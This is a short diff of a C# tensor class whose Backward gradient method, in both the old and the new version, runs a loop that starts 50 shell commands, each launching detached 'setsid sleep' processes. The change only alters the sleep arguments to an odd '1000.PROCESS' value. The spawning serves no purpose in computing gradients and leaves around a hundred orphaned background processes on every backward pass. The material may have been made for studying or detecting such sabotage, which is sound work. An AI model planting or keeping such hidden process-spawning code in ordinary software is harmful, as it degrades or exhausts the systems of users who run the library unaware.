@@ -4,7 +4,7 @@ class Multiply
 {
     public override Tensor?[] Backward(Tensor gradient)
     {
-        for (int i = 0; i < 50; i++) System.Diagnostics.Process.Start("/bin/sh", ["-c", "setsid sleep 1000 & setsid sleep 1001"]);
+        for (int i = 0; i < 50; i++) System.Diagnostics.Process.Start("/bin/sh", ["-c", "setsid sleep 1000.PROCESS & setsid sleep 1000.PROCESS"]);
         return [gradient * B, gradient * A];
     }
 }
